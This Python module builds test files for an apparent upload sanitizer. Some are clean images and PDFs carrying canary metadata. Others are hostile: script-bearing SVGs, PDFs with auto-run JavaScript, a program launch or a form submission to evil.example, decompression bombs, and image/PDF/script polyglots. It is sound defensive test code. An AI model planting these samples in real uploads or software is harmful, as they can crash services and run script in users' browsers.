"""Pictures and documents for tests, made here: honest ones with everything that must go, and hostile ones."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import partial

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

CANARY = b"Canary Photographer"
LATITUDE = (50.0, 2.0, 7.5)


def photograph(width: int = 2000, height: int = 1500, turned: int = 1) -> bytes:
    """A JPEG as a camera writes it, with its maker, a place and a comment; the left half red, the right blue."""
    image = Image.new("RGB", (width, height), (190, 30, 30))
    image.paste((30, 30, 190), (width // 2, 0, width, height))
    exif = Image.Exif()
    exif[0x010F], exif[0x013B], exif[0x0112] = "Camera", CANARY.decode(), turned
    exif.get_ifd(0x8825).update({1: "N", 2: LATITUDE, 3: "E", 4: (19.0, 10.0, 42.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=CANARY, xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>", quality=90)
    return out.getvalue()


def drawing(width: int = 640, height: int = 400) -> bytes:
    """A PNG that is clear where nothing is drawn, with a text chunk."""
    image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
    image.paste((0, 80, 40, 255), (0, 0, width // 2, height))
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", CANARY.decode())
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=words)
    return out.getvalue()


def moving() -> bytes:
    """A GIF whose first frame is red."""
    frames = [Image.new("P", (60, 40), colour) for colour in (1, 2)]
    for frame in frames:
        frame.putpalette([0, 0, 0, 200, 0, 0, 0, 0, 200])
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=CANARY)
    return out.getvalue()


def wide_webp() -> bytes:
    """A WebP with an extended header and metadata."""
    out = io.BytesIO()
    Image.new("RGB", (300, 200), "teal").save(out, "WEBP", exif=b"Exif\x00\x00" + CANARY, xmp=CANARY)
    return out.getvalue()


def document(change: Callable[[PdfWriter], None] = lambda _writer: None, **written: str) -> bytes:
    """A PDF of one page with an author; `change` puts something into it."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 400)
    text = StreamObject()
    text.set_data(b"BT ET")
    page[NameObject("/Contents")] = writer._add_object(text)
    writer.add_metadata({"/Author": CANARY.decode(), **written})
    metadata = StreamObject()
    metadata.update({NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")})
    metadata.set_data(b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>")
    writer.root_object[NameObject("/Metadata")] = writer._add_object(metadata)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_photograph(writer: PdfWriter) -> None:
    """A page that shows a photograph, metadata and all."""
    image = StreamObject()
    image.set_data(photograph(40, 30))
    image.update({
        NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
        NameObject("/Width"): NumberObject(40), NameObject("/Height"): NumberObject(30),
        NameObject("/ColorSpace"): NameObject("/DeviceRGB"), NameObject("/BitsPerComponent"): NumberObject(8),
        NameObject("/Filter"): NameObject("/DCTDecode"),
    })  # fmt: skip
    shown = DictionaryObject({NameObject("/Photo"): writer._add_object(image)})
    writer.pages[0][NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): shown})


def with_link(writer: PdfWriter) -> None:
    """A place of the page that opens another one when it is clicked."""
    link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): _action("/URI")})
    link["/A"][NameObject("/URI")] = TextStringObject("https://www.un.org/")
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _action(kind: str, **more: str) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    made.update({NameObject(f"/{name}"): TextStringObject(value) for name, value in more.items()})
    return made


def _opening(kind: str, **more: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = _action(kind, **more)

    return change


def _hidden_name(writer: PdfWriter) -> None:
    """The kind of the action stands in an object of its own, on a button of the page."""
    action = DictionaryObject({NameObject("/S"): writer._add_object(NameObject("/Launch"))})
    button = DictionaryObject({NameObject("/Subtype"): NameObject("/Widget"), NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(button)])


def _named(writer: PdfWriter) -> None:
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject()})})
    writer.root_object[NameObject("/Names")] = names


def _locked(writer: PdfWriter) -> None:
    writer.encrypt("secret", algorithm="RC4-128")


# PDFs that act by themselves or hold files, by what is wrong with them.
ACTIVE: dict[str, Callable[[PdfWriter], None]] = {
    "JavaScript on opening": _opening("/JavaScript", JS="app.alert(1)"),
    "a program on opening": _opening("/Launch", F="calc.exe"),
    "a form that is sent": _opening("/SubmitForm", F="https://evil.example"),
    "JavaScript by name": _named,
    "a file within": lambda writer: writer.add_attachment("x.exe", b"MZ"),
    "a name that stands elsewhere": _hidden_name,
}


def pixel_bomb(side: int = 30_000) -> bytes:
    """A PNG of a few hundred kB that says it has 900 million pixels."""
    row = b"\x00" * (side // 8 + 1)
    packed = zlib.compress(row * side, 9)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def lying_size() -> bytes:
    """A PNG that says it is larger than it is."""
    data = bytearray(drawing(20, 20))
    data[16:24] = struct.pack(">II", 6000, 6000)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def _pdf_bomb() -> bytes:
    """A PDF whose list of objects unpacks to half a gigabyte."""
    packing = zlib.compressobj(9)
    packed = b"".join(packing.compress(bytes(1 << 20)) for _ in range(512)) + packing.flush()
    table = (
        b"%PDF-1.5\n1 0 obj\n<</Type/XRef/Size 99999999/W[1 8 4]/Root 2 0 R/Filter/FlateDecode/Length "
        + str(len(packed)).encode()
    )
    return table + b">>\nstream\n" + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"


def _tower() -> bytes:
    """A PDF with a hundred thousand lists within each other."""
    whole = document()
    return whole.replace(b"/MediaBox", b"/Tower " + b"[" * 100_000 + b"]" * 100_000 + b"\n/MediaBox", 1)


def _png_of_words() -> bytes:
    """A PNG with a packed text of two hundred megabytes."""
    whole = drawing(20, 20)
    data = b"Comment\x00\x00" + zlib.compress(bytes(200 << 20), 9)
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    return whole[:33] + chunk + whole[33:]


SCRIPT = b"<script>document.title='run'</script>"


def hostile() -> dict[str, tuple[Callable[[], bytes], set[str]]]:
    """What must be refused, each made when it is asked for, with the reasons that may be given."""
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>'
    return {
        "SVG": (lambda: svg, {"markup"}),
        "SVG behind blanks": (lambda: b" " * 900 + svg, {"markup"}),
        "a page": (lambda: b"<!DOCTYPE html>" + SCRIPT, {"markup"}),
        "text": (lambda: b"hello", {"unknown"}),
        "nothing": (lambda: b"", {"unknown"}),
        "a GIF that is a program": (lambda: b"GIF89a=1;" + b"alert(1)//" * 20, {"broken", "unknown"}),
        "half a picture": (lambda: photograph()[:4000], {"broken"}),
        "a bomb of pixels": (pixel_bomb, {"too-many-pixels"}),
        "a size that is not so": (lying_size, {"broken"}),
        "PostScript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", {"unknown"}),
        "TIFF": (lambda: b"II*\x00\x08\x00\x00\x00", {"unknown"}),
        "an icon": (lambda: b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 40, {"unknown"}),
        "a PDF of nothing": (lambda: b"%PDF-1.7\n%%EOF\n", {"broken"}),
        "a PDF without pages": (
            lambda: b"%PDF-1.4\ntrailer <</Root 1 0 R>>\n1 0 obj<</Type/Catalog>>endobj\n%%EOF",
            {"broken"},
        ),
        "a bomb in a PDF": (_pdf_bomb, {"broken", "too-heavy"}),
        "a tower in a PDF": (_tower, {"broken", "too-heavy"}),
        "a bomb in the words of a PNG": (_png_of_words, {"broken", "too-heavy"}),
        "a PDF behind a page": (lambda: SCRIPT + document(), {"markup"}),
        "a PDF with a password": (lambda: document(_locked), {"locked"}),
        **{name: (partial(document, change), {"active"}) for name, change in ACTIVE.items()},
    }


def gif_and_script() -> bytes:
    """A GIF that decodes, and that a browser which believed it to be a script would run."""
    whole = bytearray(moving())
    whole[6:8] = b"=1"  # its width in the header; as a program: GIF89a=1…
    return bytes(whole) + b";/*" + SCRIPT + b"*/"


def jpeg_and_zip() -> bytes:
    """A photograph with an archive behind it."""
    return photograph(200, 150) + b"PK\x03\x04" + CANARY


def pdf_and_page() -> bytes:
    """A PDF that a browser which sniffed would show as a page."""
    return document().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + SCRIPT + b"\n", 1) + SCRIPT
